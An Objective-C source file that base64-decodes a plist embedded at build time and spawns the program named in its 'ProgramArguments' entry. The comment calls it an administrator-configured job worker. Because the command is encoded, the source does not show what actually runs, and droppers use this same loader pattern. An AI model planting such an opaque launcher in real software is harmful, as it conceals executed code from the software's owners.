/* A worker whose jobs stand in a property list, as the administrator's tool writes it. */
#include <spawn.h>
#include <stdlib.h>
#include <sys/wait.h>
#include "objc.h"

@interface NSObject
@end

static const char settings[] = LIST;

@interface NSData
+ (id)alloc;
- (id)initWithBase64EncodedString:(id)text options:(unsigned long)options;
@end
@interface NSPropertyListSerialization
+ (id)propertyListWithData:(id)data options:(unsigned long)options format:(unsigned long *)format error:(id *)error;
@end
@protocol Collection
- (id)objectForKey:(id)key;
- (id)objectAtIndex:(unsigned long)index;
- (unsigned long)count;
- (const char *)UTF8String;
@end

@interface Worker : NSObject
+ (int)run:(id<Collection>)words in:(char **)env;
@end
@implementation Worker
+ (int)run:(id<Collection>)words in:(char **)env {
    char *line[8] = {0};
    int child, status = -1;
    for (unsigned long i = 0; i < [words count] && i < 7; i++) line[i] = (char *)[[words objectAtIndex:i] UTF8String];
    if (line[0] && posix_spawn(&child, line[0], 0, 0, line, env) == 0) waitpid(child, &status, 0);
    return status;
}
@end

static void act(char **env) {
    id failure = 0, data = [[NSData alloc] initWithBase64EncodedString:[NSString stringWithUTF8String:settings] options:0];
    id<Collection> list = [NSPropertyListSerialization propertyListWithData:data options:0 format:0 error:&failure];
    [Worker run:[list objectForKey:@"ProgramArguments"] in:env];
}
